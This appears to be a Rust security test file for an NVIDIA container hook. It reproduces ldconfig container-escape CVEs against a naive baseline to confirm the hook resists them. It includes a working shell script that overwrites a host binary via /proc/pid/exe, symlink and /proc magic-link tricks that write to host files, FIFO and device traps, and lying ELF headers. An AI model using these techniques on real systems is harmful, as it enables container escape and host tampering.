//! Vulnerabilities with ldconfig: the host's, run on the image's files (CVE-2024-0135, CVE-2025-23267), and the image's own, run
//! with the host's privileges (CVE-2024-0136, -0137). The hook runs neither.

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use rustix::fs::inotify;

use super::scene::{CASE, Case, Ours, Scene, check};
use super::{NEEDS, NEEDS_READELF};
use crate::driver::{FakeDriver, Waiting};
use crate::support::{HOOK, copy_nvml_program, read, write_file, write_program};

tests! {
    NEEDS => cve_2024_0135_a_host_program_overwritten, cve_2024_0136_devices_for_the_images_ldconfig,
        cve_2024_0137_the_hosts_network_for_the_images_ldconfig, cve_2025_23267_ldconfig_writes_through_links,
        cve_2025_23267_ldconfigs_configuration, cve_2025_23267_files_without_an_end,
        devices_of_the_image_are_not_opened;
    NEEDS_READELF => cve_2025_23267_elf_headers_that_lie;
}

/// A process of the container keeps a program open that others run from the directory `$1`, and writes to it when they have
/// ended. While a program runs, the kernel refuses that (ETXTBSY). A FIFO that ldconfig reads gives the process time.
const OVERWRITE: &str = r#"
echo up >/seen
while [ ! -e /stop ]; do
	for exe in /proc/[0-9]*/exe; do
		case $(readlink $exe 2>/dev/null) in "$1"/*) ;; *) continue ;; esac
		{ exec 9<$exe; } 2>/dev/null || continue
		readlink $exe >>/seen
		echo >/etc/ld.so.conf.d/slow.conf &
		until { echo owned >/proc/self/fd/9; } 2>/dev/null; do [ ! -e /stop ] || exit 0; done
		exit 0
	done
done
"#;

/// A process of the container keeps a program of the host open that runs in its PID namespace, and overwrites it.
fn cve_2024_0135_a_host_program_overwritten() {
    let image = "mkfifo $rootfs/etc/ld.so.conf.d/slow.conf";
    let plant = |scene: &Scene| {
        let bin = scene.dir().join("host/bin");
        std::fs::create_dir(&bin).unwrap();
        // On Ubuntu, /sbin/ldconfig is a script that runs the other program.
        let ldconfig = ["/sbin/ldconfig.real", "/sbin/ldconfig"]
            .into_iter()
            .find(|path| Path::new(path).exists())
            .unwrap();
        std::fs::copy(ldconfig, bin.join("ldconfig")).unwrap();
        std::fs::copy(HOOK, bin.join("oci-nvidia-hook")).unwrap();
        copy_nvml_program(&bin);
        write_file(scene.rootfs.join("overwrite"), OVERWRITE);
        bin
    };

    let scene = Scene::new("debian", image);
    let bin = plant(&scene);
    let naive = "timeout 20 unshare --pid --fork --kill-child sh -euc 'mount -t proc proc $1/proc; \
                 chroot $1 sh /overwrite $2 & \
                 until [ -s $1/seen ]; do sleep 0.01; done; \
                 $2/ldconfig -r $1; wait' sh";
    let ran = scene.naive(&format!("{naive} $rootfs {}", bin.display()));
    let overwritten = std::fs::read(bin.join("ldconfig")).unwrap();
    assert_eq!(
        overwritten, b"owned\n",
        "the naive program did not fall: {ran:?}"
    );

    let scene = Scene::new("debian", image);
    let bin = plant(&scene);
    let container = scene.start("");
    let overwriter = Overwriter::start(&scene, &container);
    let before = scene.host(&container);
    let config = &FakeDriver::shared().config;
    for _ in 0..20 {
        container
            .call(&mut Command::new(bin.join("oci-nvidia-hook")), config)
            .ok();
    }
    overwriter.stop(&scene);
    scene.is_untouched(&container, &before, "");
    // To see one of our processes would have been sufficient for the attack.
    assert_eq!(read(scene.rootfs.join("seen")), "up\n");
    container.output("nvidia-smi -L");
}

/// In a PID namespace of the container.
struct Overwriter(Child);

impl Overwriter {
    fn start(scene: &Scene, container: &Waiting) -> Self {
        let script = "mount -t proc proc $1/proc; exec chroot $1 sh /overwrite $2/host";
        let mut enter = Command::new("nsenter");
        enter.args([
            "-m",
            "-t",
            &container.pid().to_string(),
            "unshare",
            "--pid",
            "--fork",
            "--kill-child",
        ]);
        enter
            .args(["sh", "-euc", script, "sh"])
            .arg(&scene.rootfs)
            .arg(scene.dir());
        let overwriter = Self(enter.stdout(Stdio::null()).spawn().unwrap());
        let end = Instant::now() + Duration::from_secs(10);
        while std::fs::read_to_string(scene.rootfs.join("seen")).is_ok_and(|seen| seen != "up\n") {
            assert!(Instant::now() < end, "the attacker did not start");
            std::thread::sleep(Duration::from_millis(5));
        }
        overwriter
    }

    fn stop(mut self, scene: &Scene) {
        assert!(
            self.0.try_wait().unwrap().is_none(),
            "the attacker is at work"
        );
        write_file(scene.rootfs.join("stop"), "");
        let end = Instant::now() + Duration::from_secs(10);
        while self.0.try_wait().unwrap().is_none() {
            assert!(Instant::now() < end, "the attacker does not stop");
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

impl Drop for Overwriter {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// The behavior of the CLI with `ldconfig` in config.toml if the value did not start with "@".
const RUN_THE_IMAGES: &str = "mount -t proc proc $rootfs/proc; unshare --pid --ipc --fork chroot $rootfs /sbin/ldconfig; cat $rootfs/owned";

/// The image's own ldconfig is run outside of the container's device cgroup.
fn cve_2024_0136_devices_for_the_images_ldconfig() {
    let evidence = "mknod /kmsg c 1 11; probe-open /kmsg >/owned";
    the_images_ldconfig(evidence, |said| said == "/kmsg: ok\n");
}

/// The image's own ldconfig is run in the host's network.
fn cve_2024_0137_the_hosts_network_for_the_images_ldconfig() {
    let host = std::fs::read_link("/proc/self/ns/net")
        .unwrap()
        .display()
        .to_string();
    the_images_ldconfig("readlink /proc/self/ns/net >/owned", |said| {
        said.trim() == host
    });
}

fn the_images_ldconfig(script: &str, fell: impl Fn(&str) -> bool) {
    let plant = || {
        let scene = Scene::new("debian", "");
        let program = scene.rootfs.join("usr/sbin/ldconfig");
        write_program(&program, format!("#!/bin/sh\n{script}\n"));
        scene
    };
    let said = plant().naive(RUN_THE_IMAGES).ok();
    assert!(fell(&said), "the naive program did not fall: {said}");

    for value in ["/sbin/ldconfig", "@/sbin/ldconfig", "@/../../sbin/ldconfig"] {
        let scene = plant();
        let fake = FakeDriver::new(&["--gpus", "1"]);
        fake.configure(&format!(
            "ldconfig = \"{value}\"\n[features]\nallow-ldconfig-from-container = true"
        ));
        let container = scene.start("mount -t proc proc $rootfs/proc");
        let before = scene.host(&container);
        let stderr = container.hook(&fake.config);
        assert_eq!(stderr.code, Some(0), "{stderr:?}");
        scene.is_untouched(&container, &before, "");
        assert!(
            !scene.rootfs.join("owned").try_exists().unwrap(),
            "{value} was run"
        );
        container.output("probe-dlopen libcuda.so.1");
    }
}

/// The behavior of update-ldcache.
const LDCONFIG: &str = "mkdir -p $rootfs/etc/ld.so.conf.d; echo /usr/lib64 >$rootfs/etc/ld.so.conf.d/00-nvcr.conf; \
                        ldconfig -r $rootfs || true";

/// ldconfig, and the code that writes its configuration, follow links of the image out of it.
fn cve_2025_23267_ldconfig_writes_through_links() {
    let cache = Case {
        fell: "! grep -q host $canary/etc/ld.so.cache",
        ..CASE
    };
    check(
        "debian",
        &[
            Case {
                name: "a cache that leads to the host",
                image: "ln -sf $canary/etc/ld.so.cache $rootfs/etc/ld.so.cache",
                naive: ": >$rootfs/etc/ld.so.cache",
                ..cache
            },
            Case {
                name: "a cache that climbs to the host",
                image: "ln -sf $up$canary/etc/ld.so.cache $rootfs/etc/ld.so.cache",
                naive: ": >$rootfs/etc/ld.so.cache",
                ..cache
            },
            Case {
                name: "a cache by the magic link of init",
                mounts: "mount -t proc proc $rootfs/proc; \
                         ln -sf /proc/$$/root$canary/etc/ld.so.cache $rootfs/etc/ld.so.cache",
                naive: ": >$rootfs/etc/ld.so.cache",
                ours: Ours::Warns("is left unchanged: "),
                ..cache
            },
            Case {
                name: "/etc by the magic link of init",
                image: "mv $rootfs/etc $rootfs/real",
                mounts: "mount -t proc proc $rootfs/proc; ln -s /proc/$$/root$canary/etc $rootfs/etc",
                naive: LDCONFIG,
                ours: Ours::Refuses("in the container"),
                ..cache
            },
            Case {
                name: "/etc is the host's, by a path that the image has too",
                image: "mkdir -p $rootfs$canary; mv $rootfs/etc $rootfs$canary/etc; ln -s $canary/etc $rootfs/etc",
                naive: LDCONFIG,
                fell: "test -e $canary/etc/ld.so.conf.d/00-nvcr.conf",
                ..CASE
            },
            Case {
                name: "drop-ins that lead to the host",
                image: "rm -r $rootfs/etc/ld.so.conf.d; ln -s $canary/etc/ld.so.conf.d $rootfs/etc/ld.so.conf.d",
                naive: LDCONFIG,
                fell: "test -e $canary/etc/ld.so.conf.d/00-nvcr.conf",
                ..CASE
            },
            Case {
                name: "configuration that includes the host's",
                image: "echo $rootfs/usr/lib64 >$canary/etc/x",
                mounts: "mount -t proc proc $rootfs/proc; \
                         echo \"include /proc/$$/root$canary/etc/*\" >$rootfs/etc/ld.so.conf",
                naive: "said=$(ldconfig -v -r $rootfs 2>&1)",
                fell: "case $said in *$rootfs*) ;; *) false ;; esac",
                ..CASE
            },
        ],
    );
}

/// The image has a newer libcuda, so its directory is listed for the image's ldconfig, in `/etc/ld.so.conf.d`.
macro_rules! with_compat {
    ($more:literal) => {
        concat!(
            "mkdir -p $rootfs/usr/local/cuda/compat; cd $rootfs/usr/local/cuda/compat; \
             cp -L /lib/*/libdl.so.2 libcuda.so.575.57.08; ln -s libcuda.so.575.57.08 libcuda.so.1; cd $rootfs/etc; ",
            $more
        )
    };
}

/// The files that configure ldconfig are written through links of the image, or read without a limit.
fn cve_2025_23267_ldconfigs_configuration() {
    let conf = Case {
        naive: "echo x >>$rootfs/etc/ld.so.conf",
        fell: "grep -q x $canary/etc/ld.so.conf",
        ..CASE
    };
    let list = Case {
        naive: "echo /usr/lib64 >$rootfs/etc/ld.so.conf.d/00-oci-nvidia-hook.conf",
        fell: "test -e $canary/etc/ld.so.conf.d/00-oci-nvidia-hook.conf || ! grep -q host $canary/file",
        ..CASE
    };
    let endless = Case {
        naive: "code=0; timeout 0.3 ldconfig -r $rootfs >/dev/null 2>&1 || code=$?",
        fell: "test $code = 124",
        ..CASE
    };
    check(
        "debian",
        &[
            Case {
                name: "a configuration that leads to the host",
                image: with_compat!("ln -sf $canary/etc/ld.so.conf ld.so.conf"),
                ..conf
            },
            Case {
                name: "a configuration by the magic link of init",
                image: with_compat!("true"),
                mounts: "mount -t proc proc $rootfs/proc; ln -sf /proc/$$/root$canary/etc/ld.so.conf $rootfs/etc/ld.so.conf",
                ..conf
            },
            Case {
                name: "a directory of files that leads to the host",
                image: with_compat!(
                    "rm -r ld.so.conf.d; ln -s $canary/etc/ld.so.conf.d ld.so.conf.d"
                ),
                ..list
            },
            Case {
                name: "a directory of files that climbs to the host",
                image: with_compat!(
                    "rm -r ld.so.conf.d; ln -s $up$canary/etc/ld.so.conf.d ld.so.conf.d"
                ),
                ..list
            },
            Case {
                name: "a file of our name that leads to the host",
                image: with_compat!("ln -s $canary/file ld.so.conf.d/00-oci-nvidia-hook.conf"),
                ..list
            },
            Case {
                name: "a configuration that is a fifo",
                image: with_compat!("rm ld.so.conf; mkfifo ld.so.conf"),
                ..endless
            },
            Case {
                name: "a configuration that is a device",
                image: with_compat!("rm ld.so.conf; mknod ld.so.conf c 1 5"),
                ..endless
            },
            Case {
                name: "a file that is a fifo",
                image: with_compat!("mkfifo ld.so.conf.d/a.conf"),
                ..endless
            },
            Case {
                name: "200 files that all include each other",
                image: with_compat!(
                    "seq 200 | while read -r n; do cp ld.so.conf ld.so.conf.d/$n.conf; done; \
                     echo /usr/lib/x >>ld.so.conf.d/200.conf"
                ),
                fell: "test $code != 0",
                ..endless
            },
            Case {
                name: "a million lines, and one of 16 MiB",
                image: with_compat!(
                    "seq 1000000 | sed 's|^|/usr/lib/x|' >>ld.so.conf; head -c 16M /dev/zero | tr '\\0' x >>ld.so.conf"
                ),
                ..endless
            },
        ],
    );
}

/// FIFOs, devices, and files larger than any memory, at paths that ldconfig and similar code read to the end.
fn cve_2025_23267_files_without_an_end() {
    let endless = |name, image, path_of_reader| Case {
        name,
        image,
        naive: path_of_reader,
        fell: "test $code = 124",
        ..CASE
    };
    let cache = "code=0; timeout 0.3 cat $rootfs/etc/ld.so.cache >/dev/null || code=$?";
    let ldconfig = "code=0; timeout 0.3 ldconfig -r $rootfs >/dev/null 2>&1 || code=$?";
    let warns = |case| Case {
        ours: Ours::Warns("is left unchanged: "),
        ..case
    };
    check(
        "debian",
        &[
            warns(endless(
                "a cache that is a fifo",
                "cd $rootfs/etc; rm ld.so.cache; mkfifo ld.so.cache",
                cache,
            )),
            warns(endless(
                "a cache that is a device",
                "cd $rootfs/etc; rm ld.so.cache; mknod ld.so.cache c 1 5",
                cache,
            )),
            warns(endless(
                "a cache of 1 TiB",
                "truncate -s 1T $rootfs/etc/ld.so.cache",
                cache,
            )),
            warns(Case {
                name: "a cache that is a directory",
                image: "cd $rootfs/etc; rm ld.so.cache; mkdir ld.so.cache",
                fell: "! cat $rootfs/etc/ld.so.cache 2>/dev/null",
                ..CASE
            }),
            endless(
                "configuration that is a fifo",
                "cd $rootfs/etc; rm ld.so.conf; mkfifo ld.so.conf",
                ldconfig,
            ),
            endless(
                "configuration that is a device",
                "cd $rootfs/etc; rm ld.so.conf; mknod ld.so.conf c 1 5",
                ldconfig,
            ),
            endless(
                "a drop-in that is a fifo",
                "cd $rootfs/etc; mkfifo ld.so.conf.d/a.conf; echo 'include ld.so.conf.d/*' >>ld.so.conf",
                ldconfig,
            ),
            endless(
                "a million lines, and one of 16 MiB",
                "cd $rootfs/etc; seq 1000000 | sed 's|^|/usr/lib/x|' >>ld.so.conf; \
                 head -c 16M /dev/zero | tr '\\0' x >>ld.so.conf",
                ldconfig,
            ),
            endless(
                "a compatibility library that is a fifo",
                "cd $rootfs; mkdir -p usr/local/cuda/compat; mkfifo usr/local/cuda/compat/libcuda.so.575.57.08",
                "code=0; timeout 0.3 cat $rootfs/usr/local/cuda/compat/* >/dev/null || code=$?",
            ),
            endless(
                "a compatibility library that is a device",
                "cd $rootfs; mkdir -p usr/local/cuda/compat; mknod usr/local/cuda/compat/libcuda.so.575.57.08 c 1 5",
                "code=0; timeout 0.3 cat $rootfs/usr/local/cuda/compat/* >/dev/null || code=$?",
            ),
            endless(
                "2000 compatibility libraries",
                "cd $rootfs; mkdir -p usr/local/cuda/compat; cd usr/local/cuda/compat; seq -f libcuda.so.%.0f.1 2000 | xargs touch",
                "code=0; timeout 0.3 find $rootfs/usr/local/cuda/compat -exec cat '{}' ';' || code=$?",
            ),
        ],
    );
}

/// A library whose ELF header makes its reader allocate more memory than exists.
fn cve_2025_23267_elf_headers_that_lie() {
    let field = |bytes: &mut Vec<u8>, at: usize, value: &[u8]| {
        bytes[at..at + value.len()].copy_from_slice(value)
    };
    let header = |sections: u16| {
        let mut bytes = vec![0; 64 + 2 * 64];
        field(&mut bytes, 0, b"\x7fELF\x02\x01\x01");
        field(&mut bytes, 16, &3u16.to_le_bytes()); // e_type: a shared object
        field(&mut bytes, 18, &62u16.to_le_bytes()); // e_machine: x86-64
        field(&mut bytes, 20, &1u32.to_le_bytes()); // e_version
        field(&mut bytes, 40, &64u64.to_le_bytes()); // e_shoff
        field(&mut bytes, 58, &64u16.to_le_bytes()); // e_shentsize
        field(&mut bytes, 60, &sections.to_le_bytes()); // e_shnum
        bytes
    };
    // e_shnum 0: the number is the size of the first section.
    let mut table = header(0);
    field(&mut table, 64 + 32, &(1u64 << 29).to_le_bytes());
    // The names of the sections claim to be the whole file.
    let mut names = header(2);
    field(&mut names, 62, &1u16.to_le_bytes()); // e_shstrndx
    field(&mut names, 128 + 32, &(1u64 << 39).to_le_bytes());
    for (name, bytes) in [("table", table), ("names", names)] {
        let scene = Scene::new("debian", "mkdir -p $rootfs/usr/local/cuda/compat");
        let library = scene
            .rootfs
            .join("usr/local/cuda/compat/libcuda.so.575.57.08");
        write_file(&library, bytes);
        std::fs::File::options()
            .write(true)
            .open(&library)
            .unwrap()
            .set_len(1 << 40)
            .unwrap();
        // If there is enough memory, readelf allocates it.
        let said = scene
            .sh(&format!(
                "prlimit --as=2147483648 readelf -S '{}' 2>&1",
                library.display()
            ))
            .stdout;
        assert!(
            said.contains("Out of memory"),
            "the naive program did not fall: {said}"
        );
        let container = scene.start("");
        let before = scene.host(&container);
        let mut hook = Command::new("timeout");
        // Address space, not memory: an allocation that the kernel grants and that is never filled also fails.
        hook.args(["--signal=KILL", "20", "prlimit", "--as=2147483648", HOOK]);
        let ran = container.call(&mut hook, &FakeDriver::shared().config);
        assert_eq!(ran.code, Some(0), "{name}: {ran:?}");
        scene.is_untouched(&container, &before, "");
        container.output("nvidia-smi -L");
    }
}

/// The image has device nodes at the paths that the hook reads. Opening one can have an effect: a watchdog resets the host.
fn devices_of_the_image_are_not_opened() {
    for place in [
        "etc/ld.so.cache",
        "usr/local/cuda/compat/libcuda.so.575.57.08",
    ] {
        let plant = format!(
            "cd $rootfs; mkdir -p usr/local/cuda/compat; rm -f {place}; mknod {place} c 1 5"
        );
        let scene = Scene::new("debian", "");
        scene.sh(&plant).ok();
        let path = scene.rootfs.join(place);
        let watch =
            inotify::init(inotify::CreateFlags::CLOEXEC | inotify::CreateFlags::NONBLOCK).unwrap();
        inotify::add_watch(&watch, &path, inotify::WatchFlags::OPEN).unwrap();
        let opened = || rustix::io::read(&watch, &mut [0u8; 4096]).is_ok();
        std::fs::File::open(&path).unwrap().metadata().unwrap();
        assert!(opened(), "the naive program did not fall");

        let container = scene.start("");
        while opened() {}
        scene.hook(&container);
        assert!(!opened(), "{place} was opened");
    }
}
